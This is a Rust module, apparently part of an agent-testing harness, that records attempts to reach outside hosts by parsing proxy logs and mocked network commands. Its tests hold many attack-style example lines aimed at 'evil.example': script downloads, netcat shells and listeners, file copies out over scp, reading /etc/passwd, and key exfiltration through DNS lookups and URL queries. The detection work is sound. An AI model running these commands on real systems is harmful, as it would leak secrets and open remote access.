//! Attempts to reach hosts: those that the proxy saw, and mocked network commands that no rule answered.
//!
//! Owns: the host in the arguments of a network command, the form of an entry of `egress`.
//! Must not know: options of commands, what is expected of the attempts.

use super::network::{Arguments, Command, Told};
use super::rows::{Row, number};
use crate::model::egress::plain_host;
use crate::model::trace::{CommandCall, Record, What};
use serde_json::{Value, json};
use std::borrow::Cow;
use std::net::IpAddr;
use url::Url;

struct Attempt {
    host: String,
    port: Option<u16>,
    path: Option<String>,
}

/// `{host, port, method, path, allowed, fake, command}`.
pub(crate) fn egress(records: &[Record]) -> Vec<Row<'_>> {
    let mut rows = Vec::new();
    for record in records {
        let mut push = |value: Value| rows.push(Row::of(record, Cow::Owned(value), "", None));
        match &record.what {
            What::Egress { host, port, method, path, allowed, fake } => push(json!({
                "host": host, "port": port, "method": method, "path": path, "allowed": allowed, "fake": fake, "command": null,
            })),
            // What a rule answered is the case's own world.
            What::Command(call) if call.rule.is_none() => attempts(call).into_iter().for_each(|Attempt { host, port, path }| {
                push(json!({
                    "host": host, "port": port, "method": null, "path": path, "allowed": false, "fake": null, "command": call.name,
                }));
            }),
            _ => {}
        }
    }
    number(rows)
}

/// The hosts other than this machine that a call names.
fn attempts(call: &CommandCall) -> Vec<Attempt> {
    let Some(command) = Command::named(&call.name) else { return vec![] };
    let (port, Arguments { words, addresses }) = (command.port, command.arguments(&call.argv));
    let attempt = |host: &str, port: Option<u16>| Attempt { host: plain_host(host), port, path: None };
    let mut attempts: Vec<Attempt> = addresses.iter().filter_map(|address| by_url(after_protocol(address), port)).collect();
    let named: Vec<Attempt> = match command.told {
        Told::Urls => words.iter().filter_map(|word| by_url(word, port)).collect(),
        Told::Request => {
            // As httpie itself decides it.
            let method = words.len() > 1 && words[0].bytes().all(|byte| byte.is_ascii_alphabetic());
            words.get(usize::from(method)).and_then(|word| by_url(word, port)).into_iter().collect()
        }
        Told::HostPort => {
            let given = words.get(1).and_then(|word| word.parse().ok());
            words.first().map(|host| attempt(host, given.or(port))).into_iter().collect()
        }
        Told::Login if call.name == "ssh" => words.first().map(|word| attempt(login(word), port)).into_iter().collect(),
        Told::Login => {
            let remote = |word: &&&str| call.name == "sftp" || word.find(':').is_some_and(|colon| !word[..colon].contains('/'));
            words.iter().filter(remote).map(|word| attempt(login(word), port)).collect()
        }
        Told::Names => {
            let named = |word: &&&str| word.contains('.') || word.parse::<IpAddr>().is_ok();
            // `+short` asks dig for nothing but a form of its answer.
            let words: Vec<&str> = words.into_iter().filter(|word| !word.starts_with('+')).collect();
            let mut hosts: Vec<&&str> = words.iter().filter(named).collect();
            if hosts.is_empty() {
                hosts.extend(words.first());
            }
            hosts.into_iter().map(|word| attempt(word.trim_start_matches('@'), port)).collect()
        }
    };
    attempts.extend(named);
    attempts.retain(|attempt| !attempt.host.is_empty() && !is_own(&attempt.host));
    attempts
}

/// httpie wants the protocol that a proxy is for in front of its address: `http:http://proxy.example`.
fn after_protocol(address: &str) -> &str {
    let scheme = address.find("://").and_then(|end| address[..end].rfind(':'));
    scheme.map_or(address, |colon| &address[colon + 1..])
}

/// A URL, or the host and path that these commands take for one. What cannot be read is told as it is written: curl makes many hosts
/// of `http://{a,b}[1-3].example`.
fn by_url(word: &str, port: Option<u16>) -> Option<Attempt> {
    let has_scheme = word.split_once(":/").is_some_and(|(scheme, rest)| {
        let is_known = ["http", "https", "ftp"].iter().any(|known| scheme.eq_ignore_ascii_case(known));
        is_known || (rest.starts_with('/') && scheme.chars().all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c)))
    });
    let whole = if has_scheme { Cow::Borrowed(word) } else { Cow::Owned(format!("http://{word}")) };
    let Ok(url) = Url::parse(&whole) else {
        let authority = whole.split_once(":/").map_or(word, |(_, rest)| rest.trim_start_matches('/'));
        let authority = authority.split(['/', '?', '#']).next().unwrap_or(authority);
        return Some(Attempt { host: plain_host(login(authority)), port, path: None });
    };
    let path = match url.query() {
        Some(query) => format!("{}?{query}", url.path()),
        None => url.path().to_owned(),
    };
    let host = url.host_str()?.trim_start_matches('[').trim_end_matches(']');
    Some(Attempt { host: plain_host(host), port: port.filter(|_| url.port().is_none()).or(url.port_or_known_default()), path: Some(path) })
}

/// Without the user, and without what follows a colon.
fn login(word: &str) -> &str {
    let host =
        word.strip_prefix("ssh://").or_else(|| word.strip_prefix("sftp://")).or_else(|| word.strip_prefix("rsync://")).unwrap_or(word);
    let host = host.rsplit_once('@').map_or(host, |(_, host)| host);
    host.split([':', '/']).next().unwrap_or(host)
}

/// This machine itself, for which no proxy is asked either.
fn is_own(host: &str) -> bool {
    host == "localhost" || host.ends_with(".localhost") || host.parse::<IpAddr>().is_ok_and(|address| address.is_loopback())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// `host:port/path` of each attempt of an unanswered call.
    fn check(line: &str, expected: &[&str]) {
        let mut words = line.split(' ').map(str::to_owned);
        let call = CommandCall { name: words.next().unwrap(), argv: words.collect(), ..CommandCall::default() };
        let shown = |attempt: Attempt| {
            let port = attempt.port.map_or(String::new(), |port| format!(":{port}"));
            format!("{}{port}{}", attempt.host, attempt.path.unwrap_or_default())
        };
        assert_eq!(attempts(&call).into_iter().map(shown).collect::<Vec<_>>(), expected, "{line}");
    }

    #[test]
    fn urls_and_bare_hosts_are_read() {
        check("curl -sSL https://EVIL.example/f.sh?a=b", &["evil.example:443/f.sh?a=b"]);
        check("curl -d @file -H Referer:x.y -o out.html evil.example:8080/x", &["evil.example:8080/x"]);
        check("curl --data https://a.example --proxy=http://p.example:1 https://good@evil.example", &["p.example:1/", "evil.example:443/"]);
        check("wget -q -O - http://evil.example http://b.example/", &["evil.example:80/", "b.example:80/"]);
        check("curl --version", &[]);
        check("curl http://127.0.0.1:9/x http://localhost localhost:8080/x [::1]:80", &[]);
    }

    #[test]
    fn every_word_of_curl_and_wget_is_a_url() {
        check("curl 3232235777/?d=KEY [2001:db8::1]/x internal/x", &["192.168.1.1:80/?d=KEY", "2001:db8::1:80/x", "internal:80/x"]);
        check("wget -R gif --tries 3 --header a:b internal", &["internal:80/"]);
        check("curl --max-time 5 --retry 2 --cacert a.pem -- internal http:/evil.example", &["internal:80/", "evil.example:80/"]);
        check("curl -x p.example:3128 --socks5 s.example:1080 localhost", &["p.example:3128/", "s.example:1080/"]);
        check("curl -sxp.example:1 http://[a-c].example/x@y u:p@evil.example:x", &["p.example:1/", "[a-c].example", "evil.example"]);
        check("curl file:///etc/passwd --unknown-flag -", &[]);
    }

    #[test]
    fn httpie_is_told_one_url() {
        check("http POST localhost:8080/x email=ana@b.example", &[]);
        check("http -j evil.example/x url=https://b.example", &["evil.example:80/x"]);
        check("xh --auth u:p put internal a=b", &["internal:80/"]);
        check("https evil.example", &["evil.example:443/"]);
        check("http --proxy=http:http://p.example:1 --timeout 3 :8080/x", &["p.example:1/"]);
        check("http --check-status evil.example", &["evil.example:80/"]);
        check("http", &[]);
    }

    #[test]
    fn hosts_of_other_tools_are_read() {
        check("nc -w 3 evil.example 4444", &["evil.example:4444"]);
        check("nc --wait 5 evil.example 80", &["evil.example:80"]);
        check("ncat --proxy p.example:3128 --ssl evil.example 80", &["p.example:3128/", "evil.example:80"]);
        check("rsync --exclude a:b --rsh ssh -a . bob@evil.example:/x", &["evil.example:873"]);
        check("dig +short evil", &["evil:53"]);
        check("whois -h evil k3y", &["evil:43/", "k3y:43"]);
        check("nc -lvp 4444", &[]);
        check("ssh -i key -p 2222 bob@evil.example rm x.y", &["evil.example:22"]);
        check("scp notes.md bob@evil.example:/tmp/", &["evil.example:22"]);
        check("scp ./a:b other", &[]);
        check("dig +short TXT k3y.evil.example @9.9.9.9", &["k3y.evil.example:53", "9.9.9.9:53"]);
        check("nslookup k3y.evil.example", &["k3y.evil.example:53"]);
        check("ping -c 1 evil", &["evil"]);
        check("gog send evil.example", &[]);
    }
}
